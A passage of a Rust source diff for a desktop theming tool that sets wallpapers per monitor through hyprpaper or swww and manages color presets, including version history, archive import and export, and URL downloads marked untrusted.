+            .ok_or_else(|| ChromashError::NotFound("No active wallpaper".into()))?;
+        let mut assignments = self.wallpaper_assignments();
+        paths::check_backend_safe(&current)?;
+        let current = current.to_string_lossy().to_string();
+        let active_monitors = self.active_monitors();
+        if !active_monitors.is_empty() {
+            assignments.monitors.retain(|m, _| active_monitors.contains(m));
+        }
+        for monitor in active_monitors {
+            assignments.monitors.entry(monitor).or_insert_with(|| current.clone());
+        }
+        assignments.fallback.get_or_insert(current);
+        if self.skip_in_dry_run(|| format!("assign wallpapers {:?} with {}", assignments.monitors, self.backend.as_str())) {
+            return Ok(());
+        }
+        self.show_wallpapers(&assignments)
+    }
+    
+    fn set_wallpaper(&self, path: &Path) -> Result<()> {
+        self.set_wallpaper_on(path, None)
+    }
+    
+    /// Shows `path` on `monitor`, keeping the other monitors' wallpapers, or on every
+    /// monitor if `monitor` is `None`.
+    fn set_wallpaper_on(&self, path: &Path, monitor: Option<&str>) -> Result<()> {
+        let hyprpaper_dir = self.hyprpaper_dir();
+        fs::create_dir_all(&hyprpaper_dir)?;
+        
+        let file_name = path.file_name()
+            .ok_or_else(|| ChromashError::General("Invalid file name".into()))?;
+        // Backends get the copy, under a name they can't misparse
+        let dest_path = hyprpaper_dir.join(paths::backend_safe_name(file_name));
+        paths::check_backend_safe(&dest_path)?;
+        
+        // 1. Detection: Find active monitors first
+        let active_monitors = self.active_monitors();
+        if let Some(monitor) = monitor {
+            if !active_monitors.is_empty() && !active_monitors.iter().any(|m| m == monitor) {
+                let known: Vec<&str> = active_monitors.iter().map(String::as_str).collect();
+                return Err(unknown_value("monitor", monitor, &known));
+            }
+        }
+        
+        // 2. Assignments: the new wallpaper where requested, previous ones elsewhere
+        let dest = dest_path.to_string_lossy().to_string();
+        let mut assignments = self.wallpaper_assignments();
+        if !active_monitors.is_empty() {
+            assignments.monitors.retain(|m, _| active_monitors.contains(m));
+        }
+        match monitor {
+            Some(monitor) => {
+                let previous = assignments.fallback.clone().unwrap_or_else(|| dest.clone());
+                for other in &active_monitors {
+                    assignments.monitors.entry(other.clone()).or_insert_with(|| previous.clone());
+                }
+                assignments.monitors.insert(monitor.to_string(), dest.clone());
+                assignments.fallback.get_or_insert(dest);
+            }
+            None => {
+                assignments.monitors = active_monitors.iter().map(|m| (m.clone(), dest.clone())).collect();
+                assignments.fallback = Some(dest);
+            }
+        }
+        
+        if self.dry_run {
+            if path != dest_path {
+                println!("[dry-run] copy {} to {}", path.display(), dest_path.display());
+            }
+            match self.backend {
+                backend::Backend::Hyprpaper => {
+                    println!("[dry-run] update the chromash block of {} to {:?}", Config::hyprpaper_config().display(), assignments.monitors);
+                    println!("[dry-run] send the wallpapers to hyprpaper over IPC, or restart it");
+                }
+                backend::Backend::Swww => println!("[dry-run] show {:?} with swww {}", assignments.monitors, self.config.swww.args()?.join(" ")),
+                backend => println!("[dry-run] show {:?} with {}", assignments.monitors, backend.as_str()),
+            }
+            return Ok(());
+        }
+
+        // 3. File Operations (skipped when re-applying the wallpaper already in place)
+        if path != dest_path {
+            self.cleanup_old_wallpapers(&hyprpaper_dir, &assignments.paths())?;
+            log::debug!("Copying {} to {}", path.display(), dest_path.display());
+            fs::copy(path, &dest_path)?;
+        }
+        
+        // 4. Hand the assignments to the backend
+        self.show_wallpapers(&assignments)
+    }
+    
+    fn show_wallpapers(&self, assignments: &hyprpaper::Assignments) -> Result<()> {
+        log::debug!("Showing wallpapers with {}", self.backend.as_str());
+        match self.backend {
+            backend::Backend::Hyprpaper => {
+                let settings_changed = self.write_hyprpaper_config(assignments)?;
+                // A running hyprpaper takes every change in one IPC round trip; restarting it
+                // is the fallback when its IPC is off or unreachable, and the only way it
+                // rereads splash and ipc settings
+                if self.minimal() {
+                    if settings_changed {
+                        log::warn!("hyprpaper rereads its settings when restarted, which --minimal leaves for later");
+                    }
+                    return hyprland::hyprpaper(&assignments.ipc_requests(), &self.config.commands, self.runner.as_ref());
+                }
+                if backend::is_running("hyprpaper") && !settings_changed {
+                    match hyprland::hyprpaper(&assignments.ipc_requests(), &self.config.commands, self.runner.as_ref()) {
+                        Ok(()) => return Ok(()),
+                        Err(e) => log::debug!("Updating hyprpaper over IPC failed, restarting it: {}", e),
+                    }
+                }
+                self.restart_hyprpaper()
+            }
+            backend => {
+                let file = self.assignments_file();
+                if let Some(parent) = file.parent() {
+                    fs::create_dir_all(parent)?;
+                }
+                write_atomic(&file, hyprpaper::merge("", &assignments.block()))?;
+                let transition = if self.minimal() {
+                    config::SwwwConfig { transition_type: Some("none".into()), ..Default::default() }
+                } else {
+                    self.config.swww.clone()
+                };
+                backend.show(assignments, &self.config.commands, &transition, self.runner.as_ref())
+            }
+        }
+    }
+    
+    /// Restarts hyprpaper and waits until its IPC socket is up, so the wallpaper is showing
+    /// when this returns.
+    fn restart_hyprpaper(&self) -> Result<()> {
+        log::debug!("Restarting hyprpaper");
+        let timeout = Duration::from_secs(self.config.commands.timeout);
+        let _ = self.runner.run(Command::new("pkill").arg("hyprpaper"), timeout);
+        if !backend::wait_until(timeout, || !backend::is_running("hyprpaper")) {
+            log::warn!("hyprpaper did not exit within {}s", timeout.as_secs());
+        }
+        
+        self.runner.spawn(&mut Command::new("hyprpaper"))?;
+
+        // Without IPC, or outside a Hyprland session, there is nothing to poll
+        let config = fs::read_to_string(Config::hyprpaper_config()).unwrap_or_default();
+        if hyprland::instance_dir().is_some() && hyprpaper::ipc_enabled(&config)
+            && !backend::wait_until(timeout, hyprland::hyprpaper_listening) {
+            log::warn!("hyprpaper did not open its IPC socket within {}s", timeout.as_secs());
+        }
+        Ok(())
+    }
+
+    fn active_monitors(&self) -> Vec<String> {
+        backend::Session::detect().monitors(&self.config.commands, self.runner.as_ref())
+    }
+
+    /// Updates chromash's block in `hyprpaper.conf`, keeping the user's other settings, and
+    /// returns whether the block's settings changed, which hyprpaper only rereads on a
+    /// restart. The original is backed up the first time chromash takes over a file.
+    fn write_hyprpaper_config(&self, assignments: &hyprpaper::Assignments) -> Result<bool> {
+        let config_path = Config::hyprpaper_config();
+        let existing = fs::read_to_string(&config_path).unwrap_or_default();
+        let backup = config_path.with_extension("conf.chromash-backup");
+        if !existing.is_empty() && !existing.contains(hyprpaper::BEGIN_MARKER) && !backup.exists() {
+            log::info!("Backing up {} to {}", config_path.display(), backup.display());
+            fs::copy(&config_path, &backup)?;
+        }
+        if let Some(parent) = config_path.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        log::debug!("Writing {} with wallpapers {:?}", config_path.display(), assignments.monitors);
+        let block = format!("{}{}", hyprpaper::settings(&self.config.hyprpaper), assignments.block());
+        let merged = hyprpaper::merge(&existing, &block);
+        write_atomic(&config_path, &merged)?;
+        Ok(hyprpaper::managed_settings(&existing) != hyprpaper::managed_settings(&merged))
+    }
+    
+    fn cleanup_old_wallpapers(&self, hyprpaper_dir: &Path, keep: &[&str]) -> Result<()> {
+        if !hyprpaper_dir.is_dir() {
+            return Ok(());
+        }
+        
+        for entry in fs::read_dir(hyprpaper_dir)? {
+            let entry = entry?;
+            let path = entry.path();
+            
+            // Skip if it's not a file
+            if !entry.file_type()?.is_file() {
+                continue;
+            }
+            
+            // Skip the one we're about to copy and those still shown on other monitors
+            if keep.iter().any(|k| Path::new(k) == path) {
+                continue;
+            }
+            
+            // Discard old wallpaper images
+            if is_image(&path) {
+                if let Err(e) = self.discard(&path) {
+                    log::warn!("{}", e);
+                }
+            }
+        }
+        Ok(())
+    }
+    
+    /// Every preset, user presets shadowing system-wide ones of the same name.
+    pub fn list_presets(&self) -> Result<Vec<PresetMetadata>> {
+        let mut presets = Vec::new();
+        let user_dir = self.presets_dir();
+        if user_dir.exists() {
+            presets = self.read_presets_in(&user_dir)?;
+        }
+        for dir in Config::system_presets_dirs() {
+            let Ok(system_presets) = self.read_presets_in(&dir) else { continue };
+            for mut metadata in system_presets {
+                if !presets.iter().any(|p| p.name == metadata.name) {
+                    metadata.system = true;
+                    presets.push(metadata);
+                }
+            }
+        }
+        presets.sort_by_key(|p| (std::cmp::Reverse(p.pinned), std::cmp::Reverse(p.modified)));
+        Ok(presets)
+    }
+    
+    fn read_presets_in(&self, dir: &Path) -> Result<Vec<PresetMetadata>> {
+        let mut presets = Vec::new();
+        for entry in fs::read_dir(dir)? {
+            let entry = entry?;
+            let path = entry.path();
+            if path.is_dir() {
+                let metadata_file = path.join("metadata.json");
+                if metadata_file.exists() {
+                    if let Ok(content) = fs::read_to_string(&metadata_file) {
+                        if let Ok(metadata) = state::parse_preset(&content) {
+                            presets.push(metadata);
+                        }
+                    }
+                }
+            }
+        }
+        Ok(presets)
+    }
+    
+    /// Applies a preset using its saved mode and scheme unless `overrides` sets them.
+    pub fn apply_preset(&mut self, name: &str, overrides: ThemeOptions) -> Result<bool> {
+        self.apply_preset_with(name, overrides, false)
+    }
+    
+    /// Applies a preset's colors while keeping the current wallpaper.
+    pub fn apply_preset_colors(&mut self, name: &str, overrides: ThemeOptions) -> Result<bool> {
+        self.apply_preset_with(name, overrides, true)
+    }
+    
+    fn apply_preset_with(&mut self, name: &str, overrides: ThemeOptions, colors_only: bool) -> Result<bool> {
+        let (preset_dir, metadata) = self.load_preset(name)?;
+        let options = ThemeOptions {
+            mode: overrides.mode.or(metadata.mode),
+            scheme: overrides.scheme.or(metadata.scheme),
+            contrast: overrides.contrast.or(metadata.contrast),
+            warmth: overrides.warmth.or(metadata.warmth),
+            hue_shift: overrides.hue_shift.or(metadata.hue_shift),
+            preset_name: overrides.preset_name.clone().or_else(|| Some(metadata.name.clone())),
+            ..overrides
+        };
+        
+        // Wallpaper presets prefer their bundled copy; fall back to the recorded
+        // wallpaper if the source can't be applied
+        let bundled = metadata.bundled_path(&preset_dir)
+            .filter(|p| p.is_file() && metadata.wallpaper_path().is_some());
+        let sources = bundled.iter().map(|p| format!("wallpaper_{}", paths::encode(p)))
+            .chain(metadata.source.iter().cloned())
+            .chain(metadata.wallpaper.iter().map(|w| format!("wallpaper_{}", paths::encode(w))));
+        for source in sources {
+            let result = if colors_only {
+                self.apply_source_colors(&source, options.clone())
+            } else {
+                self.apply_source(&source, options.clone())
+            };
+            match result {
+                Err(ChromashError::NotFound(_)) => {}
+                result => return result,
+            }
+        }
+        
+        Err(ChromashError::NotFound(format!("Unable to apply preset: {}", name)))
+    }
+    
+    /// Replays a preset's palette snapshot through the templates instead of regenerating
+    /// it, so the output is identical to when the preset was saved.
+    pub fn apply_preset_exact(&mut self, name: &str, colors_only: bool) -> Result<bool> {
+        let _guard = self.begin_apply()?;
+        let (preset_dir, metadata) = self.load_preset(name)?;
+        let palette = Palette::load(&preset_dir.join("palette.json"))?
+            .ok_or_else(|| ChromashError::NotFound(format!("Palette snapshot for preset: {}", name)))?;
+        
+        let wallpaper = metadata.resolve_wallpaper(&preset_dir);
+        if let (false, Some(wallpaper)) = (colors_only, &wallpaper) {
+            self.set_wallpaper(wallpaper)?;
+        }
+        self.apply_palette(&palette, wallpaper.as_deref())?;
+        
+        let accent = palette.roles(palette.mode()).get("primary").cloned();
+        let source = metadata.source.clone().unwrap_or_default();
+        let options = ThemeOptions {
+            mode: Some(palette.mode()),
+            scheme: metadata.scheme,
+            contrast: metadata.contrast,
+            warmth: metadata.warmth,
+            hue_shift: metadata.hue_shift,
+            preset_name: Some(metadata.name),
+            ..ThemeOptions::default()
+        };
+        self.save_current_theme(&source, &options, accent)?;
+        Ok(true)
+    }
+    
+    /// Re-applies the theme before the current one and moves the current one onto the
+    /// redo stack, so repeated undos keep stepping back.
+    pub fn undo(&mut self) -> Result<CurrentTheme> {
+        let _guard = self.begin_apply()?;
+        let entries = history::load()?;
+        if entries.len() < 2 {
+            return Err(ChromashError::NotFound("No previous theme to undo to".into()));
+        }
+        let mut redo = history::load_redo()?;
+        // Applying the previous theme records it again, so drop both entries first
+        let previous = entries[entries.len() - 2].clone();
+        if self.dry_run {
+            self.apply_source(&previous.source, previous.options())?;
+            return Ok(previous);
+        }
+        history::save(&entries[..entries.len() - 2])?;
+        if let Err(e) = self.apply_source(&previous.source, previous.options()) {
+            history::save(&entries)?;
+            return Err(e);
+        }
+        // Applying cleared the redo stack; restore it with the undone theme on top
+        redo.push(entries[entries.len() - 1].clone());
+        history::save_redo(&redo)?;
+        Ok(previous)
+    }
+    
+    /// Re-applies the most recently undone theme.
+    pub fn redo(&mut self) -> Result<CurrentTheme> {
+        let _guard = self.begin_apply()?;
+        let mut redo = history::load_redo()?;
+        let next = redo.pop()
+            .ok_or_else(|| ChromashError::NotFound("Nothing to redo".into()))?;
+        self.apply_source(&next.source, next.options())?;
+        if !self.dry_run {
+            history::save_redo(&redo)?;
+        }
+        Ok(next)
+    }
+    
+    /// Re-applies a theme from its recorded source (`color_<hex>` or `wallpaper_<path>`).
+    pub fn apply_source(&mut self, source: &str, options: ThemeOptions) -> Result<bool> {
+        if let Some(color) = source.strip_prefix("color_") {
+            return self.apply_color(color, options);
+        }
+        if let Some(wallpaper_path) = source.strip_prefix("wallpaper_") {
+            if paths::decode(wallpaper_path).exists() {
+                return self.apply_wallpaper(Some(wallpaper_path), true, options);
+            }
+        }
+        Err(ChromashError::NotFound(format!("Theme source: {}", source)))
+    }
+    
+    /// Like `apply_source`, but only regenerates colors and leaves the wallpaper alone.
+    pub fn apply_source_colors(&mut self, source: &str, options: ThemeOptions) -> Result<bool> {
+        if let Some(color) = source.strip_prefix("color_") {
+            return self.apply_color(color, options);
+        }
+        if let Some(wallpaper_path) = source.strip_prefix("wallpaper_").map(paths::decode) {
+            if wallpaper_path.exists() {
+                return self.apply_wallpaper_colors(&wallpaper_path, options);
+            }
+        }
+        Err(ChromashError::NotFound(format!("Theme source: {}", source)))
+    }
+    
+    pub fn save_preset(&self, name: &str, source: Option<String>, wallpaper: Option<PathBuf>, options: &ThemeOptions) -> Result<bool> {
+        let preset_dir = self.presets_dir().join(self.sanitize_name(name)?);
+        if self.skip_in_dry_run(|| format!("save preset {} to {}", name, preset_dir.display())) {
+            return Ok(true);
+        }
+        fs::create_dir_all(&preset_dir)?;
+        
+        // Overwriting keeps the previous version around and preserves user-managed fields
+        let previous = self.load_preset(name).ok().map(|(_, metadata)| metadata);
+        if previous.as_ref().is_some_and(|p| !p.system) {
+            self.archive_preset_version(&preset_dir)?;
+        }
+        
+        let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
+        let metadata = PresetMetadata {
+            version: state::PRESET_VERSION,
+            name: name.to_string(),
+            created: previous.as_ref().map_or(now, |p| p.created),
+            modified: now,
+            source,
+            wallpaper,
+            tags: previous.as_ref().map(|p| p.tags.clone()).unwrap_or_default(),
+            pinned: previous.as_ref().is_some_and(|p| p.pinned),
+            origin: None,
+            untrusted: false,
+            mode: options.mode,
+            scheme: options.scheme,
+            contrast: options.contrast,
+            warmth: options.warmth,
+            hue_shift: options.hue_shift,
+            snapshot: false,
+            bundled_wallpaper: previous.as_ref().and_then(|p| p.bundled_wallpaper.clone()),
+            description: previous.as_ref().and_then(|p| p.description.clone()),
+            system: false,
+        };
+        
+        // A bundled preset stays bundled, with the copy following the new wallpaper
+        let mut metadata = metadata;
+        if metadata.bundled_wallpaper.is_some() && metadata.wallpaper_path().is_some() {
+            self.bundle_wallpaper(&preset_dir, &mut metadata)?;
+        }
+        self.write_preset_metadata(&preset_dir, &metadata)?;
+        // Snapshot the generated colors so the preset can be replayed exactly
+        if let Some(palette) = self.current_palette()? {
+            palette.save(&preset_dir.join("palette.json"))?;
+        }
+        if let Err(e) = self.render_preset_thumbnail(&preset_dir, &metadata) {
+            log::warn!("Failed to render thumbnail for {}: {}", name, e);
+        }
+        Ok(true)
+    }
+    
+    /// Saves the currently applied theme, including its mode, scheme and contrast.
+    pub fn save_current_as_preset(&self, name: &str) -> Result<bool> {
+        match self.load_current_theme()? {
+            Some(current) => {
+                let wallpaper = current.wallpaper();
+                self.save_preset(name, Some(current.source.clone()), wallpaper, &current.options())
+            }
+            None => self.save_preset(name, None, None, &ThemeOptions::default()),
+        }
+    }
+    
+    /// Copies (or hard-links) a preset's wallpaper into its directory so the preset keeps
+    /// working when the original file is moved or deleted.
+    pub fn bundle_preset_wallpaper(&self, name: &str) -> Result<PathBuf> {
+        let (preset_dir, mut metadata) = self.load_user_preset(name)?;
+        let bundled = self.bundle_wallpaper(&preset_dir, &mut metadata)?;
+        self.write_preset_metadata(&preset_dir, &metadata)?;
+        Ok(bundled)
+    }
+    
+    fn bundle_wallpaper(&self, preset_dir: &Path, metadata: &mut PresetMetadata) -> Result<PathBuf> {
+        // The original wins so re-saving picks up a new wallpaper
+        let wallpaper = metadata.wallpaper_path()
+            .into_iter()
+            .chain(metadata.bundled_path(preset_dir))
+            .find(|p| p.is_file())
+            .ok_or_else(|| ChromashError::NotFound(format!("Wallpaper for preset: {}", metadata.name)))?;
+        let ext = wallpaper.extension().and_then(|e| e.to_str()).unwrap_or("png");
+        let file = format!("wallpaper.{}", ext.to_lowercase());
+        let dest = preset_dir.join(&file);
+        
+        let already_bundled = dest.exists() && fs::canonicalize(&wallpaper)? == fs::canonicalize(&dest)?;
+        if !already_bundled {
+            if dest.exists() {
+                fs::remove_file(&dest)?;
+            }
+            if fs::hard_link(&wallpaper, &dest).is_err() {
+                fs::copy(&wallpaper, &dest)?;
+            }
+        }
+        if let Some(old) = metadata.bundled_wallpaper.as_deref().filter(|old| *old != file).and_then(bundled_file) {
+            let _ = fs::remove_file(preset_dir.join(old));
+        }
+        metadata.bundled_wallpaper = Some(file);
+        Ok(dest)
+    }
+    
+    /// Copies the preset's current metadata and palette into `history/`, keeping only the
+    /// most recent versions.
+    fn archive_preset_version(&self, preset_dir: &Path) -> Result<()> {
+        let version_dir = preset_dir.join("history")
+            .join(SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos().to_string());
+        fs::create_dir_all(&version_dir)?;
+        for file in ["metadata.json", "palette.json"] {
+            if preset_dir.join(file).is_file() {
+                fs::copy(preset_dir.join(file), version_dir.join(file))?;
+            }
+        }
+        for old in self.preset_versions(preset_dir)?.iter().skip(PRESET_HISTORY_LIMIT) {
+            fs::remove_dir_all(old)?;
+        }
+        Ok(())
+    }
+    
+    /// Archived version directories of a preset, newest first.
+    fn preset_versions(&self, preset_dir: &Path) -> Result<Vec<PathBuf>> {
+        let history_dir = preset_dir.join("history");
+        if !history_dir.is_dir() {
+            return Ok(Vec::new());
+        }
+        let mut versions = Vec::new();
+        for entry in fs::read_dir(&history_dir)? {
+            let path = entry?.path();
+            if path.is_dir() {
+                versions.push(path);
+            }
+        }
+        // Directory names are nanosecond timestamps of equal length
+        versions.sort_by(|a, b| b.cmp(a));
+        Ok(versions)
+    }
+    
+    /// Previous versions of a preset, newest (version 1) first.
+    pub fn preset_history(&self, name: &str) -> Result<Vec<PresetMetadata>> {
+        let preset_dir = self.get_preset_dir(name)?;
+        let mut history = Vec::new();
+        for version_dir in self.preset_versions(&preset_dir)? {
+            let content = fs::read_to_string(version_dir.join("metadata.json"))?;
+            history.push(state::parse_preset(&content)?);
+        }
+        Ok(history)
+    }
+    
+    /// Restores version `version` (1 = most recent) of a preset. The replaced state is
+    /// archived as well, so a revert can itself be reverted.
+    pub fn revert_preset(&self, name: &str, version: usize) -> Result<()> {
+        let (preset_dir, _) = self.load_user_preset(name)?;
+        let target = version.checked_sub(1)
+            .and_then(|i| self.preset_versions(&preset_dir).ok()?.into_iter().nth(i))
+            .ok_or_else(|| ChromashError::NotFound(format!("Version {} of preset: {}", version, name)))?;
+        
+        self.archive_preset_version(&preset_dir)?;
+        let palette = target.join("palette.json");
+        if palette.is_file() {
+            fs::copy(&palette, preset_dir.join("palette.json"))?;
+        } else if preset_dir.join("palette.json").exists() {
+            fs::remove_file(preset_dir.join("palette.json"))?;
+        }
+        fs::copy(target.join("metadata.json"), preset_dir.join("metadata.json"))?;
+        
+        let (_, metadata) = self.load_preset(name)?;
+        if let Err(e) = self.render_preset_thumbnail(&preset_dir, &metadata) {
+            log::warn!("Failed to render thumbnail for {}: {}", name, e);
+        }
+        Ok(())
+    }
+    
+    /// Writes `thumbnail.png` into the preset directory; returns false if the preset
+    /// has no color or wallpaper to render.
+    fn render_preset_thumbnail(&self, preset_dir: &Path, metadata: &PresetMetadata) -> Result<bool> {
+        let output = preset_dir.join("thumbnail.png");
+        let source = metadata.source.as_deref().unwrap_or_default();
+        if let Some(color) = source.strip_prefix("color_") {
+            thumbnail::render_color(color, &output)?;
+            return Ok(true);
+        }
+        match metadata.resolve_wallpaper(preset_dir) {
+            Some(wallpaper) => {
+                thumbnail::render_wallpaper(&wallpaper, &output)?;
+                Ok(true)
+            }
+            None => Ok(false),
+        }
+    }
+    
+    /// Path of the preset's thumbnail image, if one has been rendered.
+    pub fn preset_thumbnail(&self, name: &str) -> Result<Option<PathBuf>> {
+        let thumbnail = self.get_preset_dir(name)?.join("thumbnail.png");
+        Ok(thumbnail.is_file().then_some(thumbnail))
+    }
+    
+    pub fn delete_preset(&self, name: &str) -> Result<bool> {
+        let preset_dir = self.presets_dir().join(self.sanitize_name(name)?);
+        if preset_dir.exists() {
+            self.discard(&preset_dir)?;
+            Ok(true)
+        } else {
+            for preset in self.list_presets()? {
+                if preset.name == name {
+                    let found_dir = self.presets_dir().join(self.sanitize_name(&preset.name)?);
+                    if found_dir.exists() {
+                        self.discard(&found_dir)?;
+                        return Ok(true);
+                    }
+                }
+            }
+            Ok(false)
+        }
+    }
+    
+    pub fn rename_preset(&self, old_name: &str, new_name: &str) -> Result<bool> {
+        let (old_dir, mut metadata) = self.load_user_preset(old_name)?;
+        let new_dir = self.presets_dir().join(self.sanitize_name(new_name)?);
+        if new_dir != old_dir && new_dir.exists() {
+            return Err(ChromashError::General(format!("Preset already exists: {}", new_name)));
+        }
+        fs::rename(&old_dir, &new_dir)?;
+        
+        let previous_name = std::mem::replace(&mut metadata.name, new_name.to_string());
+        metadata.modified = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
+        self.write_preset_metadata(&new_dir, &metadata)?;
+        
+        if let Some(mut current) = self.load_current_theme()? {
+            if current.preset_name.as_deref() == Some(previous_name.as_str()) {
+                current.preset_name = Some(new_name.to_string());
+                write_atomic(&Config::current_theme_file(), serde_json::to_string_pretty(&current)?)?;
+            }
+        }
+        Ok(true)
+    }
+    
+    /// Adds a tag to a preset; returns false if it was already tagged.
+    pub fn tag_preset(&self, name: &str, tag: &str) -> Result<bool> {
+        let (preset_dir, mut metadata) = self.load_user_preset(name)?;
+        if metadata.tags.iter().any(|t| t == tag) {
+            return Ok(false);
+        }
+        metadata.tags.push(tag.to_string());
+        metadata.modified = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
+        self.write_preset_metadata(&preset_dir, &metadata)?;
+        Ok(true)
+    }
+    
+    /// Removes a tag from a preset; returns false if it wasn't tagged.
+    pub fn untag_preset(&self, name: &str, tag: &str) -> Result<bool> {
+        let (preset_dir, mut metadata) = self.load_user_preset(name)?;
+        let count = metadata.tags.len();
+        metadata.tags.retain(|t| t != tag);
+        if metadata.tags.len() == count {
+            return Ok(false);
+        }
+        metadata.modified = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
+        self.write_preset_metadata(&preset_dir, &metadata)?;
+        Ok(true)
+    }
+    
+    /// Pins or unpins a preset; returns false if it was already in that state.
+    pub fn set_preset_pinned(&self, name: &str, pinned: bool) -> Result<bool> {
+        let (preset_dir, mut metadata) = self.load_user_preset(name)?;
+        if metadata.pinned == pinned {
+            return Ok(false);
+        }
+        metadata.pinned = pinned;
+        self.write_preset_metadata(&preset_dir, &metadata)?;
+        Ok(true)
+    }
+    
+    /// Sets a preset's description; an empty one clears it.
+    pub fn describe_preset(&self, name: &str, description: &str) -> Result<()> {
+        let (preset_dir, mut metadata) = self.load_user_preset(name)?;
+        let description = description.trim();
+        metadata.description = (!description.is_empty()).then(|| description.to_string());
+        self.write_preset_metadata(&preset_dir, &metadata)
+    }
+    
+    /// Applies a randomly chosen preset and returns its name.
+    pub fn apply_random_preset(&mut self, pinned_only: bool) -> Result<String> {
+        let mut presets = self.list_presets()?;
+        // Downloaded presets need an explicit first apply
+        presets.retain(|p| !p.untrusted && !p.snapshot && (p.pinned || !pinned_only));
+        if presets.is_empty() {
+            return Err(ChromashError::NotFound("No presets to choose from".into()));
+        }
+        let index = (random_u64() % presets.len() as u64) as usize;
+        let name = presets.swap_remove(index).name;
+        self.apply_preset(&name, ThemeOptions::default())?;
+        Ok(name)
+    }
+    
+    /// Packs a preset's metadata, palette and thumbnail (and optionally its wallpaper)
+    /// into a `.chromash` archive.
+    pub fn export_preset(&self, name: &str, output: &Path, include_wallpaper: bool) -> Result<()> {
+        let (preset_dir, mut metadata) = self.load_preset(name)?;
+        let staging = scratch_dir("export")?;
+        let result = (|| {
+            for file in ["thumbnail.png", "palette.json"] {
+                if preset_dir.join(file).is_file() {
+                    fs::copy(preset_dir.join(file), staging.join(file))?;
+                }
+            }
+            if include_wallpaper {
+                let wallpaper = metadata.resolve_wallpaper(&preset_dir)
+                    .ok_or_else(|| ChromashError::NotFound(format!("Wallpaper for preset: {}", name)))?;
+                let ext = wallpaper.extension().and_then(|e| e.to_str()).unwrap_or("png");
+                let bundled = format!("wallpaper.{}", ext);
+                fs::copy(&wallpaper, staging.join(&bundled))?;
+                // Archived paths are relative; import resolves them into the preset dir
+                metadata.source = Some(format!("wallpaper_{}", bundled));
+                metadata.wallpaper = Some(PathBuf::from(&bundled));
+                metadata.bundled_wallpaper = Some(bundled);
+            } else {
+                metadata.bundled_wallpaper = None;
+            }
+            self.write_preset_metadata(&staging, &metadata)?;
+            archive::create(&staging, output, self.runner.as_ref())
+        })();
+        let _ = fs::remove_dir_all(&staging);
+        result
+    }
+    
+    /// Installs a preset from a `.chromash` archive and returns its name.
+    pub fn import_preset(&self, archive_path: &Path, force: bool) -> Result<String> {
+        let staging = scratch_dir("import")?;
+        let result = (|| {
+            archive::extract(archive_path, &staging, self.runner.as_ref())?;
+            let metadata_file = staging.join("metadata.json");
+            if !is_regular_file(&metadata_file) {
+                return Err(ChromashError::General("Archive has no metadata.json".into()));
+            }
+            let mut metadata = state::parse_preset(&fs::read_to_string(&metadata_file)?)?;
+            let dir_name = self.sanitize_name(&metadata.name)?;
+            // Only the theme itself is taken from the archive; how it got here is up to us
+            metadata.origin = None;
+            metadata.untrusted = false;
+            metadata.pinned = false;
+            metadata.snapshot = false;
+            let archived_wallpaper = metadata.wallpaper.take();
+            metadata.bundled_wallpaper = None;
+            if metadata.source.as_deref().is_some_and(|s| s.starts_with("wallpaper_")) {
+                metadata.source = None;
+            }
+            
+            // Checked before anything is installed; `Palette::load` refuses colors that aren't hex
+            Palette::load(&staging.join("palette.json"))?;
+
+            let preset_dir = self.presets_dir().join(dir_name);
+            if preset_dir.exists() {
+                if !force {
+                    return Err(ChromashError::General(format!("Preset already exists: {}", metadata.name)));
+                }
+                self.discard(&preset_dir)?;
+            }
+            fs::create_dir_all(&preset_dir)?;
+            
+            for file in ["thumbnail.png", "palette.json"] {
+                if is_regular_file(&staging.join(file)) {
+                    fs::copy(staging.join(file), preset_dir.join(file))?;
+                }
+            }
+            // Paths from the sender's filesystem are dropped; only a wallpaper inside the
+            // archive is kept
+            if let Some(file_name) = archived_wallpaper.and_then(|w| bundled_file(&paths::encode(&w))) {
+                let archived = staging.join(&file_name);
+                if is_image(&file_name) && is_regular_file(&archived) {
+                    let installed = preset_dir.join(&file_name);
+                    fs::copy(&archived, &installed)?;
+                    metadata.source = Some(format!("wallpaper_{}", paths::encode(&installed)));
+                    metadata.wallpaper = Some(installed);
+                    metadata.bundled_wallpaper = Some(paths::encode(&file_name));
+                }
+            }
+            metadata.modified = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
+            self.write_preset_metadata(&preset_dir, &metadata)?;
+            Ok(metadata.name)
+        })();
+        let _ = fs::remove_dir_all(&staging);
+        result
+    }
+    
+    /// Downloads a `.chromash` archive and installs it as an untrusted preset.
+    pub fn import_preset_url(&self, url: &str, force: bool) -> Result<String> {
+        let staging = scratch_dir("download")?;
+        let result = (|| {
+            let archive_path = staging.join("preset.chromash");
+            download::fetch(url, &archive_path, download::MAX_DOWNLOAD_SIZE, self.runner.as_ref())?;
+            let name = self.import_preset(&archive_path, force)?;
+            let (preset_dir, mut metadata) = self.load_preset(&name)?;
+            metadata.origin = Some(url.to_string());
+            metadata.untrusted = true;
+            self.write_preset_metadata(&preset_dir, &metadata)?;
+            Ok(name)
+        })();
+        let _ = fs::remove_dir_all(&staging);
+        result
+    }
+    
+    /// Name of the saved preset closest to `name`, for typos like `cozzy` -> `cozy`;
+    /// `None` if no preset is close enough.
+    pub fn closest_preset(&self, name: &str) -> Result<Option<String>> {
+        let presets = self.list_presets()?;
+        Ok(fuzzy::closest(name, presets.iter().map(|p| p.name.as_str())).map(str::to_string))
+    }
+    
+    /// Returns the download origin of a preset that hasn't been confirmed yet.
+    pub fn untrusted_origin(&self, name: &str) -> Result<Option<String>> {
+        let (_, metadata) = self.load_preset(name)?;
+        Ok(metadata.untrusted.then(|| metadata.origin.unwrap_or_default()))
+    }
+    
+    pub fn trust_preset(&self, name: &str) -> Result<()> {
+        let (preset_dir, mut metadata) = self.load_user_preset(name)?;
+        metadata.untrusted = false;
+        self.write_preset_metadata(&preset_dir, &metadata)
+    }
+    
+    /// Encodes a preset as a `chromash://` string for lightweight sharing.
+    pub fn share_preset(&self, name: &str) -> Result<String> {
+        let (preset_dir, metadata) = self.load_preset(name)?;
+        let source = metadata.source.as_deref().unwrap_or_default();
+        let (seed, wallpaper) = if let Some(color) = source.strip_prefix("color_") {
+            (format!("#{}", color.trim_start_matches('#')), None)
+        } else {
